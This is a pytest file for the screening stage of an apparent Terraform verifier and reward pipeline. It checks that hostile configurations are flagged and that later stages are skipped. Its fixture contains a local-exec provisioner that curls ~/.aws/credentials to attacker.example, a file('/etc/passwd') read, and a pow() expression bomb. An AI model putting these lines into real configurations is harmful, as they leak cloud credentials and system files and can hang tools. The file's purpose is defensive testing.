"""The screen stage: its verdicts, its policy sources, and that nothing runs after `unsafe`."""

import json
import time

import pytest

from iacforge.candidate import Candidate
from iacforge.config import Settings
from iacforge.errors import SetupError
from iacforge.hcl.parse import parse_files
from iacforge.reward import reward
from iacforge.verify.context import StageContext
from iacforge.verify.options import VerifierOptions
from iacforge.verify.pipeline import Verifier, resolve_stages
from iacforge.verify.screen.policy import PACKAGED
from iacforge.verify.stages import screen

HOSTILE = """resource "aws_s3_bucket" "logs" {
  bucket = "logs"
}

resource "terraform_data" "exfiltrate" {
  provisioner "local-exec" {
    command = "curl -d @$HOME/.aws/credentials http://attacker.example"
  }
}

output "passwd" {
  value = file("/etc/passwd")
}
"""
SAFE = 'resource "aws_s3_bucket" "logs" {\n  bucket = "logs"\n}\n'


def context(files: dict[str, str], settings: Settings | None = None, **options) -> StageContext:
    return StageContext(Candidate(files), settings or Settings(),
                        model=parse_files(files).model,
                        options=VerifierOptions(**options))


def test_a_safe_candidate_passes():
    result = screen.run(context({"main.tf": SAFE}))
    assert (result.stage, result.status, result.diagnostics) == ("screen", "pass", ())
    assert result.metrics == {"findings": 0}


def test_an_unsafe_candidate_names_each_construct_file_and_line():
    result = screen.run(context({"main.tf": HOSTILE}))
    assert result.status == "unsafe"
    assert [(d.summary, d.where(), d.address) for d in result.diagnostics] == [
        ('provisioner "local-exec" is not allowed', "main.tf:6", "terraform_data.exfiltrate"),
        ("file() reads outside the configuration", "main.tf:12", "output.passwd"),
    ]
    assert result.metrics == {"findings": 2}


def test_without_a_parsed_model_the_stage_is_skipped():
    result = StageContext(Candidate({"main.tf": "{"}), Settings())
    assert screen.run(result).status == "skipped"


def test_verifier_options_override_the_policy():
    allow = {"screen_policy": {"provisioners": {"allow": ["local-exec"]},
                               "path_functions": {"file": []}}}
    assert screen.run(context({"main.tf": HOSTILE}, **allow)).status == "pass"


def test_settings_name_a_policy_file(tmp_path):
    data = json.loads(PACKAGED.read_text())
    data["limits"]["max_count"] = 1
    path = tmp_path / "strict.json"
    path.write_text(json.dumps(data))
    files = {"main.tf": 'resource "aws_s3_bucket" "b" {\n  count = 2\n}\n'}
    assert screen.run(context(files)).status == "pass"
    strict = screen.run(context(files, Settings(screen_policy=str(path))))
    assert (strict.status, strict.diagnostics[0].line) == ("unsafe", 2)


def test_a_broken_policy_is_a_setup_problem_when_the_verifier_is_made(tmp_path):
    path = tmp_path / "broken.json"
    path.write_text("{not json")
    with pytest.raises(SetupError, match="cannot read the screen policy"):
        Verifier(Settings(screen_policy=str(path)), stages=["screen"])


def test_a_misspelt_policy_override_is_refused_when_the_verifier_is_made():
    with pytest.raises(SetupError, match=r"unknown key.*limts"):
        Verifier(stages=["screen"], options=VerifierOptions(screen_policy={"limts": {}}))


@pytest.mark.parametrize(("asked", "screened"), [
    (["parse"], False), (["screen"], True), (["validate"], True), (["security"], True),
    (["lint"], True), (["plan"], True),
])
def test_every_stage_after_the_screen_brings_it_along(asked, screened):
    assert ("screen" in resolve_stages(asked, with_intent=False)) == screened


def test_nothing_runs_after_an_unsafe_verdict():
    cert = Verifier().verify(Candidate({"main.tf": HOSTILE}))
    assert [(s.stage, s.status) for s in cert.stages] == [
        ("extract", "pass"), ("parse", "pass"), ("screen", "unsafe"), ("validate", "skipped"),
        ("plan", "skipped"), ("security", "skipped"), ("lint", "skipped"),
    ]
    assert {s.diagnostics[0].summary for s in cert.stages if s.status == "skipped"} == {
        "skipped: screen did not pass"}
    assert (cert.status, reward(cert)) == ("unsafe", 0.0)


def test_checkov_never_evaluates_a_refused_expression():
    # checkov evaluates pow() in-process; this one would take it hours
    bomb = 'locals {\n  x = pow(10, pow(10, 9))\n}\nresource "aws_s3_bucket" "b" {\n' \
           '  bucket = "b-${local.x}"\n}\n'
    start = time.monotonic()
    cert = Verifier(stages=["security"]).verify(Candidate({"main.tf": bomb}))
    assert time.monotonic() - start < 10
    assert [(s.stage, s.status) for s in cert.stages][2:] == [
        ("screen", "unsafe"), ("security", "skipped")]
